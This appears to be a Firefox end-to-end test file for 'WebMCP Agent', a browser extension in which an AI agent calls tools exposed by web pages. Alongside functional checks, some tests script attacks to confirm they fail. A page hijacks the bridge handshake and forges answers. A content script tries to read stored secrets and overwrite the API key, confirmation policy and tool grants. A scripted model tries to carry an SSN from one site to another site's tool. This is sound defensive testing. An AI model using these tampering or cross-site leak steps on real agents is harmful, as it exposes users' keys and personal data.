/**
 * Firefox smoke test (`npm run test:firefox`): the Firefox build in firefox-esr over WebDriver BiDi.
 * Without firefox-esr (or $FIREFOX_PATH) it prints a skip line and exits 0; otherwise it exits non-zero when
 * any check fails, and ends with "N passed, N failed". Each check's time goes to test-reports/firefox.json for the
 * summary `npm test` prints (scripts/run-tests.ts). Firefox's own WebMCP (firefox-webmcp-checks.ts) is checked in
 * all three of its configurations: the preferences off in the first browser, then a browser each with
 * `dom.modelcontext.enabled`, and with `dom.modelcontext.testing.enabled` too.
 */
import { existsSync } from 'node:fs';
import { assert, createCheckRun } from '../shared/check-run';
import type { Page } from 'puppeteer-core';
import type { ToolOutput } from '../../lib/agent/types';
import type { TabToolSnapshot } from '../../lib/messaging/tab-tool-snapshot';
import type { HostCallAnswer } from '../../lib/messaging/router-messages';
import { NO_WEBGPU_NOTE } from '../../lib/local/create-local-adapter';
import { buildTestModel } from '../../scripts/make-test-model';
import { AUDIT_PROBLEMS } from '../fixtures/audit-problems';
import { EXFILTRATION_REPLY_LANDMARK, exfiltrationReply } from '../fixtures/exfiltration-vectors';
import { startAttackerServer } from '../servers/attacker-server';
import { type ModelHost, startModelHost } from '../servers/model-host';
import { type ProviderServer, startProviderServer } from '../servers/provider-server';
import { type StaticServer, startStaticServer } from '../servers/static-server';
import { FIREFOX, FIREFOX_BUILD, type FirefoxSession, launchFirefox, run, runInContentScript, waitFor } from './launch-firefox';
import { FIREFOX_WEBMCP_CONFIGURATIONS, type FirefoxWebMcpConfiguration, runFirefoxWebMcpChecks } from './firefox-webmcp-checks';
import { runBridgeChecks } from './mcp-bridge-checks';
import { runTaskTabChecks } from './task-tabs-checks';

const { check, crashed, finish } = createCheckRun();

/** Adds what a page shows to a failure, so a failed check says what the person would have seen. */
async function withPageText<T>(page: Page, body: () => Promise<T>): Promise<T> {
  try {
    return await body();
  } catch (error) {
    const text = await panelText(page).catch(() => '(unreadable)');
    throw new Error(
      `${error instanceof Error ? error.message : String(error)}\n      the page shows: ${text.replace(/\s+/g, ' ').slice(0, 600)}`,
    );
  }
}

/** Sends a message from an extension page to the background, as the side panel's host client does. */
/** An ask of the router as the agent host makes it: its type and its request's fields (a `requestId` is left out). */
type RouterMessage = { type: 'router/get-tools' | 'router/call-tool'; [field: string]: unknown };

/** Asks the background's router as the agent host does, through its line's handlers (tests/firefox/e2e-hook.js). */
function toBackground<T>(extensionPage: Page, message: RouterMessage): Promise<T> {
  const { type, requestId: _requestId, ...request } = message;
  return run<T>(extensionPage, '(m) => browser.runtime.sendMessage(m)', { type: 'e2e:router', ask: type, request });
}

async function callInBackground(extensionPage: Page, message: RouterMessage): Promise<ToolOutput> {
  return (await toBackground<HostCallAnswer>(extensionPage, message)).output;
}

const API_KEY = 'sk-firefox-smoke';

/**
 * Writes settings as the options page does on Firefox: into the extension origin's IndexedDB (not storage.local,
 * which content scripts can reach), then tells the extension's pages which keys changed. Run in an extension page.
 * Mirrors lib/storage/indexed-db-storage-area.ts (database 'webmcp-agent', store 'items').
 */
const SAVE_SETTINGS = `async (items) => {
  const db = await new Promise((ok, no) => {
    const r = indexedDB.open('webmcp-agent', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('items');
    r.onsuccess = () => ok(r.result);
    r.onerror = () => no(r.error);
  });
  await new Promise((ok, no) => {
    const tx = db.transaction('items', 'readwrite');
    for (const [key, value] of Object.entries(items)) tx.objectStore('items').put(value, key);
    tx.oncomplete = ok;
    tx.onerror = () => no(tx.error);
  });
  db.close();
  new BroadcastChannel('webmcp-agent-storage').postMessage({ keys: Object.keys(items) });
}`;

/** Everything the extension keeps in its IndexedDB, as JSON (read from an extension page). */
const READ_PRIVILEGED = `async () => {
  const db = await new Promise((ok, no) => {
    const r = indexedDB.open('webmcp-agent', 1);
    r.onupgradeneeded = () => r.result.createObjectStore('items');
    r.onsuccess = () => ok(r.result);
    r.onerror = () => no(r.error);
  });
  const all = await new Promise((ok, no) => {
    const out = {};
    const tx = db.transaction('items', 'readonly');
    const cursor = tx.objectStore('items').openCursor();
    cursor.onsuccess = () => {
      const c = cursor.result;
      if (!c) return ok(out);
      out[c.key] = c.value;
      c.continue();
    };
    cursor.onerror = () => no(cursor.error);
  });
  db.close();
  return JSON.stringify(all);
}`;

/** What a content script gets from each extension storage area: the items, or what it threw. */
const CONTENT_SCRIPT_READS_STORAGE = `async () => {
  const out = {};
  for (const name of ['local', 'session', 'sync']) {
    try {
      const area = browser.storage[name];
      out[name] = area ? { items: await area.get(null) } : { error: 'no such area' };
    } catch (error) {
      out[name] = { error: String((error && error.message) || error) };
    }
  }
  return out;
}`;
/** The scripted test model is served under the catalog's recommended id, so the extension needs no test catalog. */
const LOCAL_MODEL_ID = 'onnx-community/Qwen3-0.6B-ONNX';

/** Types into the side panel's message box and presses Send, as a person would. */
function sendFromPanel(panel: Page, text: string): Promise<void> {
  return run(
    panel,
    `(text) => {
      const box = document.querySelector('textarea[aria-label="Message"]');
      box.value = text;
      box.dispatchEvent(new Event('input', { bubbles: true }));
      box.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', bubbles: true }));
    }`,
    text,
  );
}

/** The panel's visible text, for waiting on what a person would read. */
function panelText(panel: Page): Promise<string> {
  return run<string>(panel, '() => document.body.innerText');
}

function textOf(output: ToolOutput): string {
  return output.content.map((part) => ('text' in part ? part.text : '')).join('');
}

async function main(): Promise<number> {
  if (!existsSync(FIREFOX)) {
    console.log(`firefox smoke: skipped, no Firefox at ${FIREFOX} (install firefox-esr, or set FIREFOX_PATH).`);
    return 0;
  }
  console.log(`firefox smoke: ${FIREFOX} with ${FIREFOX_BUILD}`);
  const server: StaticServer = await startStaticServer({ '/': 'tests/fixtures/pages', '/demo': 'demo' });
  const provider: ProviderServer = await startProviderServer({ apiKey: API_KEY });
  const modelHost: ModelHost = await startModelHost({
    [LOCAL_MODEL_ID]: buildTestModel({
      reply: '<tool_call>\n{"name": "search_products", "arguments": {"query": "bottle"}}\n</tool_call>',
      afterToolResult: 'The Insulated Bottle keeps drinks cold for 24 hours.',
      // A token per byte: the shop's tools, the page-data rule and a search result outgrow 4,096 by the second step.
      contextTokens: 8192,
    }),
  });
  let session: FirefoxSession | undefined;
  try {
    const installed = await check('the extension installs as a temporary add-on', async () => {
      session = await launchFirefox();
      assert(session.extensionId === 'webmcp-agent@webmcp-agent.dev', `installed as ${session.extensionId}`);
    });
    if (!installed || !session) return 1;

    const { page, extensionPage, tabId } = await session.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');

    await check('the MAIN-world polyfill gives the page document.modelContext and the demo registers its tools', async () => {
      await waitFor('the demo to find WebMCP', () =>
        run<boolean>(page, "() => document.getElementById('webmcp-status').dataset.state === 'ready'"),
      );
      const kind = await run<string>(page, '() => typeof document.modelContext');
      assert(kind === 'object', `document.modelContext is ${kind}`);
    });

    await check(
      'the page registered tools, so the whole bridge loaded: the isolated world answers and reaches the MAIN world',
      async () => {
        const reply = await waitFor('the bridge to load', () =>
          run<{ world: string; mainWorld: boolean; url: string } | undefined>(
            extensionPage,
            "(tabId) => browser.tabs.sendMessage(tabId, { type: 'bridge/ping' }).catch(() => undefined)",
            tabId,
          ),
        );
        assert(reply?.world === 'isolated', `isolated world answered ${JSON.stringify(reply)}`);
        assert(reply.mainWorld === true, 'the isolated world did not reach the MAIN world');
      },
    );

    const expected = ['check_out', 'get_cart', 'open_product', 'search_products', 'subscribe_newsletter'];
    await check("the background finds the page's tools (imperative and declarative)", async () => {
      const names = await waitFor('the tools to reach the background', async () => {
        const snapshot = await toBackground<TabToolSnapshot>(extensionPage, { type: 'router/get-tools', tabId });
        const list = snapshot.tools.map((t) => t.name).sort();
        return expected.every((n) => list.includes(n)) ? list : undefined;
      });
      assert(!names.includes('add_to_cart'), 'add_to_cart is listed off a product page');
      const snapshot = await toBackground<TabToolSnapshot>(extensionPage, { type: 'router/get-tools', tabId });
      const byName = new Map(snapshot.tools.map((t) => [t.name, t]));
      assert(byName.get('check_out')?.annotations?.consequentialHint === true, 'check_out lost consequentialHint');
      assert(byName.get('subscribe_newsletter')?.declarative === true, 'subscribe_newsletter is not declarative');
    });

    await check('a call through the extension runs the page tool, and the view swaps its tools', async () => {
      const output = await callInBackground(extensionPage, {
        type: 'router/call-tool',
        tabId,
        requestId: 'smoke-1',
        call: { id: 'call-1', name: 'open_product', input: { productId: 'rain-jacket' } },
      });
      assert(!output.isError, `open_product failed: ${textOf(output)}`);
      assert(textOf(output).includes('Opened Packable Rain Jacket'), `unexpected result: ${textOf(output)}`);
      const heading = await run<string>(page, "() => document.querySelector('h1').textContent");
      assert(heading === 'Packable Rain Jacket', `the page shows "${heading}"`);
      await waitFor('add_to_cart to appear', async () => {
        const snapshot = await toBackground<TabToolSnapshot>(extensionPage, { type: 'router/get-tools', tabId });
        return snapshot.tools.some((t) => t.name === 'add_to_cart');
      });
      const added = await callInBackground(extensionPage, {
        type: 'router/call-tool',
        tabId,
        requestId: 'smoke-2',
        call: { id: 'call-2', name: 'add_to_cart', input: { size: 'Medium' } },
      });
      assert(!added.isError, `add_to_cart failed: ${textOf(added)}`);
      const count = await run<string>(page, "() => document.getElementById('cart-count').textContent");
      assert(count === '1', `the cart badge shows ${count}`);
    });

    await check('the sidebar page renders', async () => {
      await waitFor('the sidebar heading', () =>
        run<boolean>(extensionPage, "() => [...document.querySelectorAll('h1')].some((h) => h.textContent.includes('WebMCP Agent'))"),
      );
    });

    await check('the options page renders', async () => {
      const options = await session!.openWithExtensionPage(`${server.url}/plain.html`, 'options.html');
      await withPageText(options.extensionPage, () =>
        waitFor('the settings heading', () =>
          run<boolean>(options.extensionPage, "() => [...document.querySelectorAll('h1')].some((h) => /settings/i.test(h.textContent))"),
        ),
      );
      await options.extensionPage.close();
      await options.page.close();
    });

    await check('tools in same- and cross-origin iframes reach the background, each call runs in its own frame', async () => {
      const frames = await session!.openWithExtensionPage(`${server.url}/frames-tools.html`, 'sidepanel.html');
      const expectedNames = ['cross_only', 'same_only', 'where', 'where_2', 'where_3'];
      const snapshot = await waitFor('the tools of all three frames', async () => {
        const found = await toBackground<TabToolSnapshot>(frames.extensionPage, { type: 'router/get-tools', tabId: frames.tabId });
        const names = found.tools.map((t) => t.name).sort();
        return JSON.stringify(names) === JSON.stringify(expectedNames) ? found : undefined;
      });
      const cross = snapshot.tools.find((t) => t.originalName === 'cross.only');
      assert(cross?.origin === server.crossOriginUrl && cross.frameId !== 0, `cross.only came from ${cross?.origin}`);
      const answers: string[] = [];
      for (const tool of snapshot.tools) {
        const output = await callInBackground(frames.extensionPage, {
          type: 'router/call-tool',
          tabId: frames.tabId,
          requestId: `frames-${tool.name}`,
          call: { id: `frames-${tool.name}`, name: tool.name, input: {} },
        });
        answers.push(`${tool.name}=${textOf(output)}`);
      }
      const got = answers.sort().join(' ');
      const want = 'cross_only=cross only same_only=same only where=top where_2=same where_3=cross';
      const wantOtherOrder = 'cross_only=cross only same_only=same only where=top where_2=cross where_3=same';
      assert(got === want || got === wantOtherOrder, `the frames answered ${got}`);
      await frames.extensionPage.close();
      await frames.page.close();
    });

    await check('a tool that navigates finishes on the next same-origin page with resumeTool (tool continuations)', async () => {
      const checkout = await session!.openWithExtensionPage(`${server.url}/continue-checkout.html`, 'sidepanel.html');
      await waitFor('the checkout page tools', async () => {
        const found = await toBackground<TabToolSnapshot>(checkout.extensionPage, { type: 'router/get-tools', tabId: checkout.tabId });
        return found.tools.some((t) => t.name === 'open_receipt') ? found : undefined;
      });
      const output = await callInBackground(checkout.extensionPage, {
        type: 'router/call-tool',
        tabId: checkout.tabId,
        requestId: 'continued',
        call: { id: 'continued', name: 'open_receipt', input: {} },
      });
      // The callback's result, then the note of where the call finished: the page, without the fragment that
      // carried the spent token.
      assert(
        textOf(output) ===
          `{"order":42,"status":"paid","page":"/continue-done.html"}("open_receipt" navigated the page and finished on ${server.url}/continue-done.html.)`,
        `the call answered ${JSON.stringify(output)}`,
      );
      await checkout.extensionPage.close();
      await checkout.page.close();
    });

    await check(
      "the polyfill's frame tree: getTools lists the same-origin frame's tools, not the cross-origin one's; executeTool runs in the registering frame",
      async () => {
        // No removed-frame case here: Firefox settles no promise of a removed frame's realm, its own APIs' included
        // (docs/webmcp-conformance.md, differences).
        const framesPage = await session!.openWithExtensionPage(`${server.url}/frames-tools.html`, 'sidepanel.html');
        type Seen = { listed: string[]; answer: string | null };
        const seen = await waitFor('the same-origin frame to register', () =>
          run<Seen | undefined>(
            framesPage.page,
            `async () => {
              const frame = document.getElementById('same');
              const whose = (w) => (w === window ? 'top' : w === frame.contentWindow ? 'same' : 'other');
              const tools = await document.modelContext.getTools();
              const listed = tools.map((t) => t.name + '@' + whose(t.window));
              if (!listed.includes('same.only@same')) return undefined;
              const inFrame = tools.find((t) => t.name === 'where' && t.window === frame.contentWindow);
              const answer = await document.modelContext.executeTool(inFrame, {});
              return { listed, answer };
            }`,
          ),
        );
        assert(
          JSON.stringify(seen.listed) === JSON.stringify(['same.only@same', 'where@top', 'where@same']),
          `getTools listed ${JSON.stringify(seen.listed)}`,
        );
        assert(seen.answer?.includes('same'), `the same-origin frame's tool answered ${seen.answer}`);
        await framesPage.extensionPage.close();
        await framesPage.page.close();
      },
    );

    await check("exposure across origins: a cross-origin frame's tool exposed to the top is listed and run there", async () => {
      const exposing = await session!.openWithExtensionPage(`${server.url}/plain.html`, 'sidepanel.html');
      type Seen = { listed: string[]; answer: string | null };
      const seen = await waitFor('the exposed tool', () =>
        run<Seen | undefined>(
          exposing.page,
          `async () => {
            let frame = document.getElementById('exposing');
            if (!frame) {
              frame = document.createElement('iframe');
              frame.id = 'exposing';
              frame.allow = 'tools';
              frame.src = '${server.crossOriginUrl}/exposed-frame.html?to=' + encodeURIComponent(location.origin);
              document.body.append(frame);
              return undefined;
            }
            const tools = await document.modelContext.getTools({ fromOrigins: ['${server.crossOriginUrl}'] });
            const listed = tools.map((t) => t.name + '@' + (t.window === frame.contentWindow ? 'frame' : 'other'));
            const tool = tools.find((t) => t.name === 'exposed_tool');
            if (!tool) return undefined;
            return { listed, answer: await document.modelContext.executeTool(tool, { n: 1 }) };
          }`,
        ),
      );
      assert(JSON.stringify(seen.listed) === JSON.stringify(['exposed_tool@frame']), `getTools listed ${JSON.stringify(seen.listed)}`);
      assert(seen.answer === 'exposed {"n":1}', `the exposed tool answered ${seen.answer}`);
      await exposing.extensionPage.close();
      await exposing.page.close();
    });

    await check(
      'a tool that throws a Proxy or a prototype-less object ends at once as tool_threw; a 600 KB structuredContent is capped',
      async () => {
        const hostile = await session!.openWithExtensionPage(`${server.url}/hostile-tools.html`, 'sidepanel.html');
        await waitFor('the hostile tools', async () => {
          const found = await toBackground<TabToolSnapshot>(hostile.extensionPage, { type: 'router/get-tools', tabId: hostile.tabId });
          return found.tools.length === 5 ? found : undefined;
        });
        const callHostile = (name: string) =>
          callInBackground(hostile.extensionPage, {
            type: 'router/call-tool',
            tabId: hostile.tabId,
            requestId: `hostile-${name}`,
            call: { id: `hostile-${name}`, name, input: {} },
          });
        for (const name of ['throws_null_proto', 'throws_bad_getter', 'throws_proxy', 'rejects_proxy']) {
          const output = await callHostile(name);
          assert(output.isError && textOf(output).startsWith('Error [tool_threw]: '), `${name} answered ${textOf(output).slice(0, 200)}`);
        }
        const big = await callHostile('huge_structured');
        assert(big.structuredContent === undefined, 'huge_structured kept its structuredContent');
        assert(textOf(big).length <= 20_200, `huge_structured sent ${textOf(big).length} characters`);
        await hostile.extensionPage.close();
        await hostile.page.close();
      },
    );

    await check(
      "a page that answers the bridge's handshake first is refused: its own tools are served, its ports hear nothing",
      async () => {
        // tests/e2e/trust-channel.spec.ts, shortened: the page listens for the bridge before it loads, answers with
        // ports of its own, grabs the bridge's, replays the key it hears there and forges answers on it.
        const first = await session!.openWithExtensionPage(`${server.url}/channel-first.html`, 'sidepanel.html');
        const names = () =>
          toBackground<TabToolSnapshot>(first.extensionPage, { type: 'router/get-tools', tabId: first.tabId }).then((s) =>
            s.tools.map((t) => t.name).sort(),
          );
        await waitFor('the page’s tool', async () => ((await names()).includes('real_tool') ? true : undefined));
        await new Promise((resolve) => setTimeout(resolve, 500));
        const listed = await names();
        assert(JSON.stringify(listed) === '["real_tool"]', `the frame lists ${JSON.stringify(listed)}`);
        const output = await callInBackground(first.extensionPage, {
          type: 'router/call-tool',
          tabId: first.tabId,
          requestId: 'channel-first',
          call: { id: 'channel-first', name: 'real_tool', input: { note: 'for the page’s own tool' } },
        });
        assert(textOf(output) === 'real', `real_tool answered ${textOf(output)}`);
        const hostile = await run<{ requests: unknown[]; heard: string[]; grabbed: number }>(first.page, '() => window.hostile');
        assert(hostile.grabbed > 0, 'the page never saw the bridge’s port: the attack did not run');
        assert(hostile.requests.length === 0, `the page's own ports heard ${JSON.stringify(hostile.requests)}`);
        assert(!hostile.heard.join('\n').includes('for the page’s own tool'), 'the page heard the call’s input on the bridge’s port');
        await first.extensionPage.close();
        await first.page.close();
      },
    );

    await check('a cloud conversation in the sidebar page calls a page tool and shows the answer', async () => {
      // Cloud settings as the options page stores them, then a fresh shop tab with its own panel.
      await run(extensionPage, SAVE_SETTINGS, {
        'settings.mode': 'cloud',
        'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
        'secret.apiKey.openai-compatible': API_KEY,
        'settings.apiKeyMask.openai-compatible': 'sk-…moke',
      });
      provider.script(
        { type: 'reply', toolCalls: [{ name: 'search_products', input: { query: 'mug' } }] },
        { type: 'reply', text: 'The **Stoneware Mug** is $22.00.' },
      );
      const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
      await withPageText(shop.extensionPage, async () => {
        await waitFor('the panel to list the shop tools', async () => /Tools \(\d+\)/.test(await panelText(shop.extensionPage)), 20_000);
        await sendFromPanel(shop.extensionPage, 'Find me a mug');
        await waitFor(
          'the answer in the panel',
          () => run<boolean>(shop.extensionPage, "() => document.querySelector('.markdown strong')?.textContent === 'Stoneware Mug'"),
          30_000,
        );
      });
      const state = await run<string>(
        shop.extensionPage,
        "() => [...document.querySelectorAll('.tool-card')].find((c) => c.textContent.includes('search_products'))?.querySelector('.tool-state')?.textContent",
      );
      assert(state === 'done', `the search_products card says "${state}"`);
      const hash = await run<string>(shop.page, '() => location.hash');
      assert(hash === '#/search?q=mug', `the shop shows ${hash}`);
      const first = provider.requests.find((r) => r.path.endsWith('/chat/completions'));
      assert(first?.headers.authorization === `Bearer ${API_KEY}`, 'the provider did not get the key');
      assert(JSON.stringify(first.body).includes('search_products'), 'the provider did not get the page tools');
    });

    await runTaskTabChecks(check, {
      session: session!,
      server,
      provider,
      useCloud: () =>
        run(extensionPage, SAVE_SETTINGS, {
          'settings.mode': 'cloud',
          'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
          'secret.apiKey.openai-compatible': API_KEY,
          'settings.apiKeyMask.openai-compatible': 'sk-…moke',
        }),
    });

    await check('the on-device path downloads the test model, runs it on WASM and calls a page tool', async () => {
      await run(extensionPage, SAVE_SETTINGS, {
        'settings.mode': 'local',
        'settings.local': { modelHost: modelHost.url.replace(/\/$/, ''), modelId: LOCAL_MODEL_ID },
      });
      const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
      const panel = shop.extensionPage;
      await withPageText(panel, async () => {
        const download = "[...document.querySelectorAll('button')].find((b) => b.textContent.startsWith('Download'))";
        await waitFor('the Download button', () => run<boolean>(panel, `() => Boolean(${download})`), 30_000);
        // The engine's own device choice shows on the card: the CPU (WASM) note when it found no WebGPU adapter.
        assert((await panelText(panel)).includes(NO_WEBGPU_NOTE), 'the status card does not say the model runs on the CPU (WASM)');
        await run(panel, `() => ${download}.click()`);
        await waitFor('the model to be ready', () => run<boolean>(panel, "() => !document.querySelector('.status-card')"), 90_000);
        await sendFromPanel(panel, 'Find me a bottle');
        await waitFor(
          'the on-device answer in the panel',
          async () => (await panelText(panel)).includes('The Insulated Bottle keeps drinks cold for 24 hours.'),
          90_000,
        );
      });
      const hash = await run<string>(shop.page, '() => location.hash');
      assert(hash === '#/search?q=bottle', `the shop shows ${hash}`);
      // WASM runs the q4 weights; WebGPU with shader-f16 would have fetched q4f16.
      assert(modelHost.downloads('onnx/model_q4.onnx') === 1, 'the q4 weights were not downloaded exactly once');
      assert(modelHost.downloads('model_q4f16.onnx') === 0, 'the q4f16 (WebGPU) weights were downloaded');
    });

    await check('a sub-agent runs nested: the site agent delegates, the nested run and its tool card show in the panel', async () => {
      // Cloud mode again, and the demo shop's example profile (a "checkout" sub-agent) for this server's origin.
      await run(extensionPage, SAVE_SETTINGS, {
        'settings.mode': 'cloud',
        'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
        'secret.apiKey.openai-compatible': API_KEY,
        'settings.apiKeyMask.openai-compatible': 'sk-…moke',
        'settings.sites': [
          {
            origin: new URL(server.url).origin,
            instructions: 'A shop.',
            tools: ['search_products', 'open_product', 'add_to_cart'],
            subAgents: [
              { id: 'checkout', name: 'Checkout', instructions: 'Read the cart, then check out.', tools: ['get_cart', 'check_out'] },
            ],
          },
        ],
      });
      provider.reset();
      provider.script(
        { type: 'reply', toolCalls: [{ name: 'delegate_to_checkout', input: { task: 'What is in the cart?' } }] },
        { type: 'reply', toolCalls: [{ name: 'get_cart', input: {} }] },
        { type: 'reply', text: 'The cart is empty.' },
        { type: 'reply', text: 'The checkout agent says your cart is empty.' },
      );
      const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
      await withPageText(shop.extensionPage, async () => {
        await waitFor('the panel to list the shop tools', async () => /Tools \(\d+\)/.test(await panelText(shop.extensionPage)), 20_000);
        await sendFromPanel(shop.extensionPage, 'Check my cart');
        await waitFor(
          'the answer in the panel',
          async () => (await panelText(shop.extensionPage)).includes('The checkout agent says your cart is empty.'),
          30_000,
        );
      });
      const nested = await run<string>(
        shop.extensionPage,
        "() => { const s = document.querySelector('section.subagent[aria-label=\"Sub-agent checkout\"]'); return s ? [...s.querySelectorAll('.tool-card')].map((c) => c.querySelector('.tool-name').textContent + ':' + c.querySelector('.tool-state').textContent).join(',') : 'none'; }",
      );
      assert(nested === 'get_cart:done', `the nested run shows ${nested}`);
      const sub = provider.requests.filter((r) => r.path.endsWith('/chat/completions'))[1];
      const offered = JSON.stringify(sub?.body?.tools ?? []);
      assert(offered.includes('get_cart') && !offered.includes('search_products'), 'the sub-agent was not offered only its own tools');
    });

    await check(
      'what the agent read on one site reaches another site’s read-only tool only after the person saw it; only offered tools run',
      async () => {
        await run(extensionPage, SAVE_SETTINGS, {
          'settings.mode': 'cloud',
          'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
          'secret.apiKey.openai-compatible': API_KEY,
          'settings.apiKeyMask.openai-compatible': 'sk-…moke',
          'settings.sites': [{ origin: new URL(server.url).origin, instructions: 'A bank.', tools: ['get_profile'] }],
        });
        provider.reset();
        provider.script(
          // partner_offers is on the page but not in the bank's profile: it must not run.
          {
            type: 'reply',
            toolCalls: [
              { name: 'get_profile', input: {} },
              { name: 'partner_offers', input: {} },
            ],
          },
          { type: 'reply', text: 'Your profile is on file.' },
          { type: 'reply', toolCalls: [{ name: 'lookup', input: { query: 'SSN 078-05-1120' } }] },
          { type: 'reply', text: 'I did not look it up.' },
        );
        const bank = await session!.openWithExtensionPage(`${server.url}/bank.html`, 'sidepanel.html');
        const panel = bank.extensionPage;
        await withPageText(panel, async () => {
          await waitFor('the panel to list the bank tools', async () => /Tools \(1\)/.test(await panelText(panel)), 20_000);
          await sendFromPanel(panel, 'What is on my profile?');
          await waitFor('the answer', async () => (await panelText(panel)).includes('Your profile is on file.'), 30_000);
          const offers = await run<string>(
            panel,
            "() => [...document.querySelectorAll('.tool-card')].find((c) => c.querySelector('.tool-name').textContent === 'partner_offers')?.textContent ?? ''",
          );
          assert(offers.includes('is offered to you'), `partner_offers was not refused as not offered: ${offers}`);
          assert((await run<string>(bank.page, '() => location.host')) === new URL(server.url).host, 'partner_offers ran');

          await bank.page.goto(`${server.crossOriginUrl}/partner.html`);
          const partnerHost = new URL(server.crossOriginUrl).host;
          await waitFor(
            'the panel to say the tab is on another site',
            async () => (await panelText(panel)).includes(`Now on ${partnerHost}`),
            20_000,
          );
          await sendFromPanel(panel, 'Any offers?');
          await waitFor(
            'the question about lookup',
            async () =>
              (await run<string>(panel, "() => document.querySelector('fieldset.confirm')?.textContent ?? ''")).includes('078-05-1120'),
            30_000,
          );
          await run(
            panel,
            "() => [...document.querySelectorAll('fieldset.confirm button')].find((b) => b.textContent.trim() === 'Deny').click()",
          );
          await waitFor('the last answer', async () => (await panelText(panel)).includes('I did not look it up.'), 30_000);
        });
        const looked = await run<string[]>(bank.page, '() => window.looked');
        assert(Array.isArray(looked) && looked.length === 0, `the partner's lookup ran: ${JSON.stringify(looked)}`);
        await run(extensionPage, SAVE_SETTINGS, { 'settings.sites': [] });
      },
    );

    await check(
      'a router that registers its tools 30–500 ms after the call that changed the route: a two-step task passes 10 of 10 runs',
      async () => {
        const url = `${server.url}/hotel-router.html`;
        const router = await session!.openWithExtensionPage(url, 'sidepanel.html');
        const names = async () =>
          (await toBackground<TabToolSnapshot>(router.extensionPage, { type: 'router/get-tools', tabId: router.tabId })).tools
            .map((t) => t.name)
            .sort()
            .join(',');
        const call = (id: string, name: string, input: unknown) =>
          callInBackground(router.extensionPage, {
            type: 'router/call-tool',
            tabId: router.tabId,
            requestId: id,
            call: { id, name, input },
          });
        const failures: string[] = [];
        for (let i = 1; i <= 10; i++) {
          if (i > 1) await run(router.page, '(href) => { setTimeout(() => location.assign(href), 0); return true; }', url);
          await waitFor('the home route tools', async () => (await names()) === 'lookup_amenity,search_location', 20_000);
          const search = textOf(await call(`router-s${i}`, 'search_location', { location: 'Tokyo' }));
          const filter = textOf(await call(`router-f${i}`, 'filter_search_results', { gym: true, breakfast: true }));
          if (
            search !== 'Searching hotels in Tokyo.' ||
            filter !== '2 hotels in Tokyo with a gym and breakfast: Shinjuku Tower, Ginza Grand.'
          ) {
            failures.push(`run ${i}: "${search}" then "${filter}"`);
          }
        }
        assert(failures.length === 0, failures.join('; '));
        await router.extensionPage.close();
        await router.page.close();
      },
    );

    await check(
      'a content script reaches no key, conversation, grant or policy; its writes change nothing; a closed tab loses its conversation',
      async () => {
        const secret = 'my recovery code is 7731-FIREFOX';
        await run(extensionPage, SAVE_SETTINGS, {
          'settings.mode': 'cloud',
          'settings.cloud': { provider: 'openai-compatible', baseURL: `${provider.url}/v1`, model: 'test-model' },
          'secret.apiKey.openai-compatible': API_KEY,
          'settings.apiKeyMask.openai-compatible': 'sk-…moke',
          'settings.confirmation': 'non-read-only',
          'settings.grants': [{ origin: server.url, tool: 'search_products', grantedAt: 1 }],
        });
        provider.script({ type: 'reply', text: 'Noted.' });
        const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
        const panel = shop.extensionPage;
        await withPageText(panel, async () => {
          await waitFor('the panel to list the shop tools', async () => /Tools \(\d+\)/.test(await panelText(panel)), 20_000);
          await sendFromPanel(panel, secret);
          await waitFor('the answer', async () => (await panelText(panel)).includes('Noted.'), 30_000);
        });
        await waitFor('the conversation to be stored', async () => (await run<string>(panel, READ_PRIVILEGED)).includes(secret));

        const reached = JSON.stringify(await runInContentScript(panel, shop.tabId, CONTENT_SCRIPT_READS_STORAGE));
        for (const leak of [API_KEY, secret, 'settings.', 'conversation']) {
          assert(!reached.includes(leak), `a content script read ${leak}: ${reached.slice(0, 300)}`);
        }
        await runInContentScript(
          panel,
          shop.tabId,
          `async () => {
          const items = {
            'secret.apiKey.openai-compatible': 'sk-attacker',
            'settings.confirmation': 'never',
            'settings.grants': [{ origin: location.origin, tool: 'add_to_cart', grantedAt: 2 }],
          };
          for (const name of ['local', 'sync']) await browser.storage[name].set(items).catch(() => {});
          new BroadcastChannel('webmcp-agent-storage').postMessage({ keys: Object.keys(items) });
        }`,
        );
        provider.script(
          { type: 'reply', toolCalls: [{ name: 'open_product', input: { productId: 'ceramic-mug' } }] },
          { type: 'reply', toolCalls: [{ name: 'add_to_cart', input: {} }] },
          { type: 'reply', text: 'Added.' },
        );
        const asked = provider.requests.length;
        await withPageText(panel, async () => {
          await sendFromPanel(panel, 'Add the ceramic mug');
          // The person's policy still holds: add_to_cart (not read-only, not granted) waits for the Allow.
          await waitFor(
            'add_to_cart to wait for the person',
            () =>
              run<boolean>(
                panel,
                "() => [...document.querySelectorAll('.tool-card')].some((c) => c.textContent.includes('add_to_cart') && c.querySelector('.tool-state')?.textContent === 'waiting for you')",
              ),
            30_000,
          );
        });
        const keys = provider.requests.slice(asked).map((r) => r.headers.authorization);
        assert(keys.length > 0 && keys.every((k) => k === `Bearer ${API_KEY}`), `the provider got ${JSON.stringify(keys)}`);

        await shop.page.close();
        await waitFor(
          'the closed tab’s conversation to be deleted',
          async () => !(await run<string>(panel, READ_PRIVILEGED)).includes(secret),
        );
        await panel.close();
      },
    );

    await check(
      'a content script cannot drive the agent host: a panel-named port is cut off, an options request goes unanswered',
      async () => {
        const shop = await session!.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
        await waitFor('the shop tools', async () => /Tools \(\d+\)/.test(await panelText(shop.extensionPage)), 20_000);
        const attack = (name: string) =>
          run<Record<string, unknown>>(shop.extensionPage, '(m) => browser.runtime.sendMessage(m)', {
            type: 'e2e:content-script-attack',
            attack: name,
            tabId: shop.tabId,
          });
        const port = await attack('panelPort');
        assert(port?.disconnected === true && JSON.stringify(port.heard) === '[]', `the panel-named port got ${JSON.stringify(port)}`);
